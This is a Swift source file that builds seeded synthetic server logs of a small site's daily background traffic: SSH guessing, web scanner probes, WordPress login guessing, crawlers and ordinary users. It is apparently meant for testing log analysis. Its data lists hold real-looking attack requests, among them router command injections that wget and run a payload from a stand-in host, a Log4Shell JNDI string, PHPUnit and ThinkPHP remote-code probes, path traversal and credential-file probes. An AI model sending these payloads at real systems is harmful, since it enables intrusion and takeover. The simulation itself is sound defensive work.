import Foundation

/// Days of what a quiet, self-hosted site sees without anybody meaning it in particular: a web server with an application, WebDAV and
/// sshd, open to the Internet.
///
/// The rates are ours. The number of SSH guesses is of the order that people report who looked: 9,000 to 19,000 a day from some twenty
/// loud addresses (mathis-adler.dev, "SSH brute force", the first week of a server), here 25 loud ones and 60 quiet ones. So are the kinds of
/// web probes (wp-login, xmlrpc, .env, .git, phpMyAdmin, routers), whose numbers nobody states for a small site. The same seed gives
/// the same lines.
struct Background {
    private var random: SeededGenerator
    private var log = CampaignLog()
    private var nextBot = 0
    private var line = 0

    static let day: Int64 = 86_400
    /// All of its people come through this address.
    static let office = "192.0.2.50"

    /// A rate of one of its parts, a day.
    enum Rate {
        static let loudGuessers = 25
        static let quietGuessers = 60
        static let guessesOfLoud = 20.0...1_500.0
        static let singleProbes = 40
        static let sweeps = 8
        static let wordPressGuessers = 12
        static let deviceExploits = 14
        static let exploitKits = 4
        static let damagedRequests = 10
        static let visitors = 40
        static let crawlerRequests = 600
        static let webDAVClients = 5
        static let peopleBehindOneAddress = 25
        static let mistypedShare = 0.2
    }

    init(seed: UInt64) { random = SeededGenerator(state: seed) }

    static func log(seed: UInt64, days: Int) -> (log: CampaignLog, lines: Int) {
        var background = Background(seed: seed)
        for day in 0..<days { background.write(day: Int64(day) * Self.day) }
        return (background.log, background.line)
    }

    private mutating func write(day: Int64) {
        for _ in 0..<Rate.loudGuessers { guessLoudly(day) }
        for _ in 0..<Rate.quietGuessers { guessQuietly(day) }
        for _ in 0..<Rate.singleProbes { probe(day, paths: number(1...3)) }
        for _ in 0..<Rate.sweeps { probe(day, paths: number(10...40)) }
        for _ in 0..<Rate.wordPressGuessers { guessAtWordPress(day) }
        for _ in 0..<Rate.deviceExploits { exploitDevices(day) }
        for _ in 0..<Rate.exploitKits { exploitKit(day) }
        for _ in 0..<Rate.damagedRequests { damagedRequest(day) }
        crawlers(day)
        healthChecks(day)
        people(day)
        webDAV(day)
    }

    // MARK: Strangers' programs

    private mutating func guessLoudly(_ day: Int64) {
        let address = bot()
        // Most are short, a few go on for hours.
        let (low, high) = (log2(Rate.guessesOfLoud.lowerBound), log2(Rate.guessesOfLoud.upperBound))
        let guesses = Int(exp2(low + (high - low) * share()))
        let pause = number(1...45)
        let list = chance(0.6) ? ["root"] : Self.accounts
        var at = day + Int64(number(0...80_000))
        for _ in 0..<guesses {
            ssh(address, pick(list), at: at)
            at += Int64(max(1, pause + number(-1...3)))
        }
    }

    private mutating func guessQuietly(_ day: Int64) {
        let address = bot()
        for _ in 0..<number(2...6) { ssh(address, chance(0.5) ? "root" : pick(Self.accounts), at: moment(day)) }
    }

    private mutating func probe(_ day: Int64, paths: Int) {
        let address = bot()
        let agent = pick(Self.botAgents)
        var at = moment(day)
        for path in Self.probes.shuffled(using: &random).prefix(paths) {
            web(address, "GET \(path)", at: at, agent: agent)
            at += Int64(number(0...3))
        }
    }

    private mutating func guessAtWordPress(_ day: Int64) {
        let address = bot()
        let agent = pick(Self.botAgents)
        var at = moment(day)
        let request = chance(0.7) ? "POST /wp-login.php" : "POST /xmlrpc.php"
        if chance(0.5) { for author in 1...3 { web(address, "GET /?author=\(author)", at: at, agent: agent) } }
        for _ in 0..<number(1...40) {
            web(address, request, at: at, agent: agent)
            at += Int64(number(1...20))
        }
    }

    /// One try, then on to the next host of the Internet.
    private mutating func exploitDevices(_ day: Int64) {
        let address = bot()
        let at = moment(day)
        for (number, request) in pick(Self.deviceExploits).enumerated() {
            web(address, request, at: at + Int64(number), agent: chance(0.5) ? "Hello, World" : pick(Self.botAgents))
        }
    }

    private mutating func exploitKit(_ day: Int64) {
        let address = bot()
        var at = moment(day)
        for path in Self.kit.shuffled(using: &random).prefix(number(5...Self.kit.count)) {
            web(
                address, path, at: at,
                agent: "Mozilla/5.0 (compatible; \(pick(["zgrab/0.x", "libredtail-http", "Custom-AsyncHttpClient"])))")
            at += Int64(number(0...2))
        }
    }

    private mutating func damagedRequest(_ day: Int64) {
        let (address, at) = (bot(), moment(day))
        log.raw(
            "bot \(address)", from: address,
            request: pick(["\\x16\\x03\\x01", "\\x03\\x00\\x00/*\\xE0\\x00\\x00", "MGLNDD_203.0.113.5_80", "-"]), status: 400,
            at: at)
        line += 1
    }

    // MARK: Friends

    private mutating func crawlers(_ day: Int64) {
        for (address, agent) in [
            ("66.249.66.17", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
            ("40.77.167.12", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
            (
                "20.171.206.30",
                "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"
            ),
        ] {
            friend(address, "GET /", bytes: Self.startPageBytes, at: day, agent: agent)
            friend(address, "GET /author-sitemap.xml", bytes: 1_907, at: day + 40, agent: agent)
            for step in 0..<Rate.crawlerRequests / 3 {
                let at = day + Int64(step) * 430 + Int64(number(0...60))
                friend(address, "GET /articles/\(number(1...400))", status: chance(0.02) ? 404 : 200, at: at, agent: agent)
            }
        }
    }

    private mutating func healthChecks(_ day: Int64) {
        for at in stride(from: 0, to: Self.day, by: 30) {
            friend("10.0.0.5", "GET /healthz", at: day + at, agent: "kube-probe/1.30")
        }
    }

    private mutating func people(_ day: Int64) {
        for visitor in 0..<Rate.visitors {
            let address = "203.0.113.\(visitor + 1)"
            var at = moment(day)
            friend(address, "GET /", bytes: Self.startPageBytes, at: at - 5)
            for _ in 0..<number(3...20) {
                friend(address, "GET /articles/\(number(1...400))", at: at)
                at += Int64(number(4...90))
            }
            if chance(0.3) { friend(address, "GET /favicon-old.ico", status: 404, at: at) }
            if chance(0.15) { friend(address, "GET /articles/moved-\(number(1...50))", status: 404, at: at + 1) }
            if chance(0.3) { signIn(address, at: at + 20) }
        }
        // Somebody's page elsewhere has this site's list of accounts in place of a picture: whoever looks at it asks for that.
        friend(
            Self.office, "GET /wp-json/wp/v2/users", status: 401, at: day + 36_000,
            referrer: "https://forum.example.net/thread/9")
        // An office whose people come through one address, most of them at about nine.
        for person in 0..<Rate.peopleBehindOneAddress {
            let at = day + 32_400 + Int64(number(0...2_400))
            signIn(Self.office, at: at)
            if person % 4 == 0 { signInBySSH(Self.office, "person\(person)", at: at + 60) }
        }
    }

    private mutating func signIn(_ address: String, at start: Int64) {
        var at = start
        while chance(Rate.mistypedShare) {
            friend(address, "POST /login", status: 401, at: at)
            at += Int64(number(5...20))
        }
        friend(address, "POST /login", status: 302, at: at)
    }

    private mutating func signInBySSH(_ address: String, _ user: String, at start: Int64) {
        var at = start
        while chance(Rate.mistypedShare) {
            log.ssh(nil, from: address, user: user, at: at)
            line += 1
            at += Int64(number(4...12))
        }
        log.ssh(nil, from: address, user: user, at: at, accepted: true)
        line += 1
    }

    /// Clients that sync through the day, and begin each connection with a question that is answered with 401.
    private mutating func webDAV(_ day: Int64) {
        for client in 0..<Rate.webDAVClients {
            let address = "203.0.113.\(200 + client)"
            for (step, at) in stride(from: Int64(28_800), to: 64_800, by: 60).enumerated() {
                let time = day + at + Int64(client)
                if step % 60 == 0 {
                    friend(address, "PROPFIND /remote.php/dav/files/person\(client)/", status: 401, at: time, agent: Self.dav)
                }
                friend(address, "PROPFIND /remote.php/dav/files/person\(client)/", status: 207, at: time + 1, agent: Self.dav)
            }
        }
    }

    // MARK: Lines

    private mutating func ssh(_ address: String, _ user: String, at seconds: Int64) {
        // Next to none of them is there.
        log.ssh("bot \(address)", from: address, user: user, at: seconds, isUnknown: !["root", "git", "www"].contains(user))
        line += 1
    }

    /// What is not there is 404. The start page is there, and does not look at what stands behind its question mark.
    private mutating func web(_ address: String, _ request: String, at seconds: Int64, agent: String) {
        let isStart = request.hasPrefix("GET /?") || request.hasPrefix("GET /index.php?")
        log.web(
            "bot \(address)", from: address, request, status: isStart ? 200 : 404, bytes: isStart ? Self.startPageBytes : 162,
            at: seconds, agent: agent)
        line += 1
    }

    private mutating func friend(
        _ address: String, _ request: String, status: Int = 200, bytes: Int = 512, at seconds: Int64, referrer: String = "-",
        agent: String = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    ) {
        log.web(
            nil, from: address, request, status: status, bytes: bytes, at: seconds, referrer: referrer, agent: agent)
        line += 1
    }

    /// A new one each time: of the range for benchmarks (RFC 2544), which nobody has.
    private mutating func bot() -> String {
        nextBot += 1
        let place = nextBot &* 2_654_435_761 % 130_050
        return "198.\(18 + place / 65_025).\(place / 255 % 255).\(place % 255 + 1)"
    }

    private mutating func moment(_ day: Int64) -> Int64 { day + Int64(number(0...86_000)) }
    private mutating func number(_ range: ClosedRange<Int>) -> Int { Int.random(in: range, using: &random) }
    private mutating func share() -> Double { Double.random(in: 0..<1, using: &random) }
    private mutating func chance(_ share: Double) -> Bool { self.share() < share }
    private mutating func pick<Element>(_ elements: [Element]) -> Element { elements[number(0...elements.count - 1)] }

    /// Less than most have, and like what a file of settings has.
    private static let startPageBytes = 4_321
    private static let dav = "Mozilla/5.0 (Linux) mirall/3.14.0 (Nextcloud)"
    private static let accounts = [
        "root", "root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "git", "pi", "ftpuser", "deploy", "hadoop",
        "jenkins",
        "esuser", "solana", "validator", "dspace", "odoo", "teamspeak", "sysadmin", "www", "nginx", "minecraft", "kafka",
    ]
    private static let botAgents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0", "curl/7.88.1", "-",
    ]
    private static let probes = [
        "/.env", "/.git/config", "/wp-login.php", "/.aws/credentials", "/phpmyadmin/index.php", "/admin", "/.env.local",
        "/api/.env",
        "/backend/.env", "/.env.production", "/config.json", "/server-status", "/actuator/health", "/robots.txt", "/sitemap.xml",
        "/wp-includes/wlwmanifest.xml", "/xmlrpc.php?rsd", "/.vscode/sftp.json", "/login", "/manager/html", "/info.php",
        "/phpinfo.php",
        "/.DS_Store", "/backup.zip", "/db.sql", "/.svn/entries", "/telescope/requests", "/debug/default/view",
        "/owa/auth/logon.aspx",
        "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application", "/v2/_catalog", "/console/", "/solr/",
        "/HNAP1",
        "/?XDEBUG_SESSION_START=phpstorm", "/_profiler/phpinfo", "/.well-known/security.txt", "/vendor/phpunit/phpunit/LICENSE",
        "/wp-content/plugins/", "/old/wp-admin/setup-config.php", "/app/.env", "/laravel/.env",
    ]
    private static let deviceExploits = [
        ["GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.18.0.1/a;sh+/tmp/a"],
        ["GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+http://198.18.0.1/t|sh`)"],
        ["POST /boaform/admin/formLogin"],
        ["GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*&curpath=/&currentsetting.htm=1"],
        ["GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh"],
        ["GET /?x=${jndi:ldap://198.18.0.1/a}", "GET /?q=${jndi:ldap://198.18.0.1/a}"],
        ["POST /hudson", "GET /goform/webLogin"], ["GET /?id=1%27%20or%201=1--"],
    ]
    static let kit = [
        "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "POST /phpunit/src/Util/PHP/eval-stdin.php",
        "POST /lib/phpunit/Util/PHP/eval-stdin.php",
        "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
        "POST /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        "POST /cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
        "GET /index.php?lang=../../../../../../../../tmp/index1", "GET /containers/json", "GET /.env",
        "POST /apps/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "POST /api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "GET /public/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
    ]
}
